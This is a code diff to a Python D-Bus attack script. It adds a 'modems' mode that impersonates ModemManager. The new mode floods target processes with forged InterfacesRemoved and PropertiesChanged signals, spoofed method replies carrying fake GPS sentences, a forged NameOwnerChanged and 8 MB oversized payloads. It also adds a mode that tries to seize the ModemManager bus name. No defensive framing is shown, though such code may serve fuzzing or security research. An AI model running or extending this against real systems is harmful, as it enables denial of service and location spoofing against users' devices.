@@ -10,6 +10,9 @@ gi.require_version("Gio", "2.0")
 from gi.repository import Gio, GLib
 DEVICE = "/org/bluez/hci0/dev_10_C6_FC_12_34_56"
 BUS = ("org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus")
+MANAGER, MODEMS = "org.freedesktop.ModemManager1", "/org/freedesktop/ModemManager1"
+MODEM = MODEMS + "/Modem/0"
+OBJECTS, PROPERTIES = "org.freedesktop.DBus.ObjectManager", "org.freedesktop.DBus.Properties"
 LIBC = ctypes.CDLL(None, use_errno=True)
 kept, held, servers = [], [], []
 
@@ -95,6 +98,21 @@ def call(target, member, body, descriptors=()):
     message.set_flags(Gio.DBusMessageFlags.NO_REPLY_EXPECTED)
     send(message, body, descriptors)
 
+def modem(target, path, interface, member, body):
+    """A signal as if it were ModemManager's, or of the bus about it."""
+    message = Gio.DBusMessage.new_signal(path, interface, member)
+    message.set_destination(target)
+    send(message, body)
+
+def guess(target, serial, body):
+    """A reply to a call that the target may have made to ModemManager."""
+    message = Gio.DBusMessage()
+    message.set_message_type(Gio.DBusMessageType.METHOD_RETURN)
+    message.set_destination(target)
+    message.set_reply_serial(serial)
+    message.set_flags(Gio.DBusMessageFlags.NO_REPLY_EXPECTED)
+    send(message, body)
+
 def changed(target, name, value):
     message = Gio.DBusMessage.new_signal(DEVICE, "org.freedesktop.DBus.Properties", "PropertiesChanged")
     message.set_destination(target)
@@ -104,6 +122,7 @@ def attack(kind):
     if kind == "release":
         while held: os.close(held.pop())
         return "done"
+    if kind == "name": return bus.call_sync(*BUS, "RequestName", GLib.Variant("(su)", (MANAGER, 4)), None, 0, -1, None).unpack()[0]
     for target in targets():
         if kind == "linger":
             for _ in range(20): call(target, "NewConnection", GLib.Variant("(oha{sv})", (DEVICE, 0, {})), [lingering()])
@@ -122,6 +141,16 @@ def attack(kind):
             for _ in range(4): call(target, "x" * 200, GLib.Variant("(s)", ("y" * (8 << 20),)))
             call(target, "Release", None)
             call(target, "RequestDisconnection", GLib.Variant("(o)", (DEVICE,)))
+        elif kind == "modems":
+            sentences = "$GPGGA,120000,1000.000,N,02000.000,E,1,08,0.9,545.4,M,46.9,M,,*4D\r\n"
+            for number in range(20000):
+                if number % 2: modem(target, MODEMS, OBJECTS, "InterfacesRemoved", GLib.Variant("(oas)", (MODEM, [MANAGER + ".Modem"])))
+                else: modem(target, MODEM, PROPERTIES, "PropertiesChanged", GLib.Variant("(sa{sv}as)", (
+                    MANAGER + ".Modem.Location", {"Enabled": GLib.Variant("u", 1)}, [])))
+            for serial in range(1, 2000):
+                guess(target, serial, GLib.Variant("(a{uv})", ({4: GLib.Variant("s", sentences)},)))
+            modem(target, BUS[1], BUS[2], "NameOwnerChanged", GLib.Variant("(sss)", (MANAGER, ":1.0", "")))
+            for _ in range(4): modem(target, MODEMS, OBJECTS, "InterfacesAdded", GLib.Variant("(s)", ("y" * (8 << 20),)))
         elif kind == "signals":
             for _ in range(20000): changed(target, "Connected", GLib.Variant("b", False))
             message = Gio.DBusMessage.new_signal("/", "org.freedesktop.DBus", "NameOwnerChanged")
